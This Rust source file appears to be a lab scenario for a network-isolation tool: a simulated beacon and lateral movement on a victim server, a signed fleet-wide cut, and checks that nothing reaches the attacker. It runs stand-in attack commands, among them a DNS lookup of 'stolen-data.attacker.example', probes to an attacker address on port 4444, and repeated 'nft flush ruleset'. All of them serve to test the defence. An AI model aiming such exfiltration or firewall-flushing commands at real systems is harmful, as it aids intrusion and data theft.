//! The first half: the servers come up, one is intruded upon, and all are cut; then everything is tried to
//! get out again.

use std::time::Duration;

use anyhow::{Context, Result, ensure};

use super::evidence::{self, Expecting, Tally, acts, arrivals, try_from};
use super::stage::find_program;
use super::story::Story;
use super::teller::{both, milliseconds};
use crate::service::now_ms;
use crate::topology::ATTACKER;

/// The incident's name in every order.
pub(super) const INCIDENT: &str = "INC-2026-001";
/// What is sent before and after the cut, so that an arrival can be told from others.
const BEFORE: &str = "before-the-cut";
const AFTER: &str = "after-the-cut";
/// What is sent while the firewall is being flushed.
const FLUSHING: &str = "during-the-flush";
/// Bytes that every message of the beacon has in it, as an arrival shows them.
pub(super) const BEACON: &str = "decoy.beacon";
/// The administrator's own rules, on one server.
pub(super) const OWN_RULES: &str =
    "table inet admin { chain input { type filter hook input priority 5; tcp dport 23 drop; }; }";

/// Step 1: everybody is there, and nobody is cut.
pub(super) fn servers_are_up(story: &mut Story<'_>) -> Result<()> {
    let stage = story.stage;
    let servers = stage.servers();
    let text = both!(
        story.teller,
        "{} servers, a controller, an attacker outside",
        "{} serveurs, un contrôleur, un attaquant dehors",
        servers.len()
    );
    story.teller.step(&text);
    story.show_environment();
    let fleet = stage.fleet()?;
    let reporting = fleet.iter().filter(|host| host.fresh && host.level.is_some()).count();
    let mut levels: Vec<&str> = fleet.iter().filter_map(|host| host.level.as_deref()).collect();
    levels.sort_unstable();
    levels.dedup();
    let levels = levels.join(", ");
    let text = both!(
        story.teller,
        "{reporting} of {} servers have sent a signed report; what their kernel can hold: level {levels}",
        "{reporting} serveurs sur {} ont envoyé un rapport signé ; ce que leur noyau peut tenir : niveau {levels}",
        servers.len()
    );
    story.teller.finding(reporting == servers.len(), &text)?;
    let tally = try_from(stage, &servers, |_| Ok(evidence::outside()), BEFORE, Expecting::Reach)?;
    let text = both!(
        story.teller,
        "every server reaches the outside: {} of {} tries by TCP, UDP and ICMP, IPv4 and IPv6 {}",
        "chaque serveur atteint l'extérieur : {} essais sur {} en TCP, UDP et ICMP, IPv4 et IPv6 {}",
        tally.reached.len(),
        tally.tried,
        Tally::some(&tally.missed)
    );
    story.teller.finding(tally.all_reached(), text.trim_end())?;
    story.nft = find_program("nft").is_some();
    if !story.nft {
        let why = story.nft_is_missing();
        story.skip(why);
        return Ok(());
    }
    let guarded = with_own_rules(story);
    let words = ["digue-lab", "exec", &guarded, "--", "nft", OWN_RULES];
    story.run(&words, 0)?;
    story.own_rules = Some(own_rules(story)?);
    Ok(())
}

/// Step 2: the beacon talks to the attacker, and the neighbours are tried.
pub(super) fn an_intrusion_begins(story: &mut Story<'_>) -> Result<()> {
    let (stage, victim) = (story.stage, story.stage.victim());
    let text = both!(story.teller, "An intrusion on {victim}", "Une intrusion sur {victim}");
    story.teller.step(&text);
    let started = now_ms();
    story.run(&["digue-lab", "incident", "beacon", "--host", &victim], 0)?;
    let (sessions, datagrams) = stage.wait_for("the beacon at the attacker", || {
        let arrivals = arrivals(stage)?;
        let beacon = |event: &str| {
            arrivals
                .iter()
                .filter(|a| a.at_ms >= started && a.event == event && a.text.contains(BEACON))
                .count()
        };
        let (sessions, datagrams) = (beacon("tcp-data"), beacon("udp"));
        Ok((sessions > 0 && datagrams > 0).then_some((sessions, datagrams)))
    })?;
    let attacker = ATTACKER.0;
    let text = both!(
        story.teller,
        "at {attacker} arrive: {sessions} session that stays open, {datagrams} datagram(s), one more each second",
        "à {attacker} arrivent : {sessions} session qui reste ouverte, {datagrams} datagramme(s), un de plus chaque seconde"
    );
    story.teller.finding(true, &text)?;
    story.run(&["digue-lab", "incident", "lateral", "--host", &victim], 0)?;
    let answered = stage.wait_for("the end of the lateral movement", || {
        let acts = acts(stage, &victim, "lateral")?;
        let answered = acts.iter().filter(|act| act.what == "answered").count();
        Ok(acts.iter().any(|act| act.what == "ended").then_some(answered))
    })?;
    // An incident tries at most twenty neighbours.
    let expected = (stage.servers().len() - 1).min(20);
    let text = both!(
        story.teller,
        "{victim} tries its neighbours: {answered} of {expected} answer it",
        "{victim} essaie ses voisins : {answered} sur {expected} lui répondent"
    );
    story.teller.finding(answered == expected, &text)
}

/// Step 3: what the cut would do is known before anyone signs it.
pub(super) fn an_operator_plans_a_cut(story: &mut Story<'_>) -> Result<()> {
    let stage = story.stage;
    let text = both!(
        story.teller,
        "Alice plans a cut; nothing is sent",
        "Alice prépare une coupure ; rien n'est envoyé"
    );
    story.teller.step(&text);
    let reason = both!(story.teller, "{} talks to {}", "{} parle à {}", stage.victim(), ATTACKER.0);
    let words =
        ["digue", "plan", "cut", "--all", "--incident", INCIDENT, "--reason", &reason, "-o", "cut.plan"];
    let planned = story.run(&words, 0)?;
    story.teller.output(&planned.out);
    let open = stage.fleet()?.iter().filter(|host| host.links.as_deref() == Some("open")).count();
    let expected = stage.servers().len();
    let text = both!(
        story.teller,
        "nothing has changed: the links of {open} of {expected} servers are open",
        "rien n'a changé : les liens de {open} serveurs sur {expected} sont ouverts"
    );
    story.teller.finding(open == expected, &text)
}

/// Step 4: one signature cuts, and every server proves it.
pub(super) fn the_cut_is_signed_and_verified(story: &mut Story<'_>) -> Result<()> {
    let stage = story.stage;
    let text = both!(
        story.teller,
        "Alice signs: one signature is enough to cut",
        "Alice signe : une signature suffit pour couper"
    );
    story.teller.step(&text);
    let words = ["digue", "apply", "cut.plan", "--sign", "alice", "--wait", "--timeout", "1m", "--yes"];
    let applied = story.run(&words, 0)?;
    story.cut_at_ms = now_ms();
    story.packets_at_cut = evidence::packets_outside(stage)?;
    // Every server was outside before: a counter that stands still would find nothing afterwards either.
    let before = u64::try_from(stage.servers().len())?;
    ensure!(story.packets_at_cut > before, "the counter of packets outside does not count");
    story.teller.output(&last_line(&applied.err));
    story.teller.output(&last_line(&applied.out));
    let expected = stage.servers().len();
    let verified = stage.fleet()?.iter().filter(|host| host.cut_and_proved()).count();
    let took = milliseconds(applied.took);
    let text = both!(
        story.teller,
        "{verified} of {expected} servers cut and verified {took} after the command: rules read back, forbidden connections failed, a new connection to the controller answered",
        "{verified} serveurs sur {expected} coupés et vérifiés {took} après la commande : règles relues, connexions interdites en échec, nouvelle connexion au contrôleur établie"
    );
    story.teller.finding(verified == expected, &text)?;
    let expectation = format!("cut=={expected} and exposed==0 and stale==0");
    let status = story.run(&["digue", "status", "--expect", &expectation], 0)?;
    story.teller.output(&status.out);
    Ok(())
}

/// Step 5: seen from outside, and tried from inside.
pub(super) fn nothing_reaches_the_attacker(story: &mut Story<'_>) -> Result<()> {
    let (stage, victim, servers) = (story.stage, story.stage.victim(), story.stage.servers());
    let text = both!(
        story.teller,
        "Measured from outside: nothing arrives any more",
        "Mesuré de l'extérieur : plus rien n'arrive"
    );
    story.teller.step(&text);
    let cut_at = story.cut_at_ms;
    let why = stage.wait_for("the end of the beacon's session", || {
        let acts = acts(stage, &victim, "beacon")?;
        Ok(acts.iter().find(|act| act.what == "lost").map(|act| act.detail.clone()))
    })?;
    let text = both!(
        story.teller,
        "the attacker's session is dead: {why}",
        "la session de l'attaquant est morte : {why}"
    );
    story.teller.finding(true, &text)?;

    let shown = ["digue-lab", "exec", &victim, "--", "digue-lab", "probe", "tcp", "198.51.100.66:443"];
    let probed = story.run(&shown, 1)?;
    story.teller.output(&probed.out);
    let tally = try_from(stage, &servers, |_| Ok(evidence::outside()), AFTER, Expecting::Silence)?;
    let text = both!(
        story.teller,
        "from inside all {} servers, {} ways out were tried (TCP, UDP, ICMP, IPv4, IPv6): none leads out {}",
        "de l'intérieur des {} serveurs, {} sorties essayées (TCP, UDP, ICMP, IPv4, IPv6) : aucune ne mène dehors {}",
        servers.len(),
        tally.tried,
        Tally::some(&tally.reached)
    );
    story.teller.finding(tally.none_reached(), text.trim_end())?;
    names_do_not_resolve(story, &victim)?;

    // The beacon tries once a second: this is how long nothing arrives while it does.
    let tries = stage.wait_for("three more tries of the beacon", || {
        let acts = acts(stage, &victim, "beacon")?;
        let since = acts.iter().filter(|act| act.at_ms > cut_at && act.detail.contains("/tcp:")).count();
        Ok((since >= 3).then_some(since))
    })?;
    let arrived = story.packets_since_cut()?;
    let watched = Duration::from_millis(now_ms().saturating_sub(cut_at));
    let text = both!(
        story.teller,
        "in the {:.1} s since, with {tries} more tries of the intruder, {arrived} packets arrived outside",
        "dans les {:.1} s écoulées, malgré {tries} nouvelles tentatives de l'intrus, {arrived} paquet arrivé dehors",
        watched.as_secs_f64()
    );
    story.teller.finding(arrived == 0, &text)?;

    let machines = stage.machines()?;
    let neighbour = |server: &str| {
        let other = machines.iter().find(|machine| machine.name != server && machine.name != victim);
        other.map(evidence::inside).context("there is no neighbour")
    };
    let tally = try_from(stage, &servers, neighbour, AFTER, Expecting::Reach)?;
    let text = both!(
        story.teller,
        "the inside still works: printer and neighbours answer, {} of {} tries {}",
        "l'intérieur fonctionne toujours : imprimante et voisins répondent, {} essais sur {} {}",
        tally.reached.len(),
        tally.tried,
        Tally::some(&tally.missed)
    );
    story.teller.finding(tally.all_reached(), text.trim_end())
}

/// A tunnel through name resolution is closed too.
fn names_do_not_resolve(story: &mut Story<'_>, victim: &str) -> Result<()> {
    if find_program("getent").is_none() {
        let why = both!(
            story.teller,
            "a tunnel through DNS needs getent, which is not installed",
            "le tunnel par DNS demande getent, qui n'est pas installé"
        );
        story.skip(why);
        return Ok(());
    }
    let resolved = story.stage.show(
        story.teller,
        &["digue-lab", "exec", victim, "--", "getent", "ahosts", "stolen-data.attacker.example"],
    )?;
    ensure!(resolved.code != Some(125), "the command did not run inside {victim}: {}", resolved.err);
    let asked = story.arrived_since_cut(|one| one.event == "dns")?;
    let text = both!(
        story.teller,
        "no name is resolved, and the attacker's name server was asked nothing",
        "aucun nom n'est résolu, et le serveur de noms de l'attaquant n'a rien reçu"
    );
    story.teller.finding(resolved.code == Some(2) && asked == 0, &text)
}

/// Step 6: whoever "repairs" the network by emptying the firewall stays cut.
pub(super) fn a_flushed_firewall_stays_cut(story: &mut Story<'_>) -> Result<()> {
    let (stage, server) = (story.stage, flushed(story));
    let text = both!(
        story.teller,
        "Somebody on {server} empties the firewall \"to repair the network\"",
        "Quelqu'un sur {server} vide le pare-feu « pour réparer le réseau »"
    );
    story.teller.step(&text);
    if !story.nft {
        let why = story.nft_is_missing();
        story.skip(why);
        return Ok(());
    }
    let listed = tables(story, &server)?;
    let words = ["digue-lab", "exec", &server, "--", "digue-lab", "probe", "udp", "198.51.100.66:4444"];
    let mut knocking = words.to_vec();
    knocking.extend(["--text", FLUSHING, "--timeout", "50", "--within", "2500"]);
    let mut knocking = stage.command(&knocking)?;
    let mut knocking = knocking.stdout(std::process::Stdio::null()).spawn().context("knocking")?;
    story.run(&["digue-lab", "exec", &server, "--", "nft", "flush", "ruleset"], 0)?;
    for _ in 1..5 {
        stage.run(&["digue-lab", "exec", &server, "--", "nft", "flush", "ruleset"])?.must_end_with(0)?;
    }
    let out = knocking.wait().context("knocking")?;
    let arrived = story.packets_since_cut()?;
    let text = both!(
        story.teller,
        "five times emptied, a packet tried every few milliseconds meanwhile: {arrived} arrived outside",
        "vidé cinq fois, un paquet tenté toutes les quelques millisecondes : {arrived} arrivé dehors"
    );
    story.teller.finding(arrived == 0 && out.code() == Some(1), &text)?;
    let (alarm, back) = stage.wait_for("the alarm about the flush, and the rules", || {
        let fleet = stage.fleet()?;
        let host = fleet.into_iter().find(|host| host.name == server).context("the server is gone")?;
        let alarm = host.alarms.iter().find(|alarm| alarm.contains("nft")).cloned();
        let back = tables(story, &server)?;
        let whole = host.cut_and_proved() && back == listed;
        Ok(alarm.filter(|_| whole).map(|alarm| (alarm, back)))
    })?;
    let text = both!(
        story.teller,
        "{back} tables are back and verified; the server reported it: {alarm}",
        "{back} tables remises et vérifiées ; le serveur l'a signalé : {alarm}"
    );
    story.teller.finding(true, &text)
}

/// How many tables of ours `nft` lists on a server.
fn tables(story: &Story<'_>, server: &str) -> Result<usize> {
    let ran = story.stage.run(&["digue-lab", "exec", server, "--", "nft", "list", "tables"])?;
    let count = ran.must_end_with(0)?.out.lines().filter(|line| line.contains(" digue_")).count();
    Ok(count)
}

/// The server whose firewall is flushed: neither the victim nor the one with rules of its own.
fn flushed(story: &Story<'_>) -> String {
    let (victim, guarded) = (story.stage.victim(), with_own_rules(story));
    let servers = story.stage.servers();
    servers.into_iter().rev().find(|server| *server != victim && *server != guarded).unwrap_or(victim)
}

/// The server on which an administrator has rules of his own.
pub(super) fn with_own_rules(story: &Story<'_>) -> String {
    story.stage.servers().into_iter().next().unwrap_or_default()
}

/// The administrator's own rules as `nft` prints them now.
pub(super) fn own_rules(story: &Story<'_>) -> Result<String> {
    let server = with_own_rules(story);
    let words = ["digue-lab", "exec", &server, "--", "nft", "list", "table", "inet", "admin"];
    Ok(story.stage.run(&words)?.must_end_with(0)?.out)
}

/// The last line that a command printed.
pub(super) fn last_line(text: &str) -> String {
    text.lines().last().unwrap_or_default().to_owned()
}
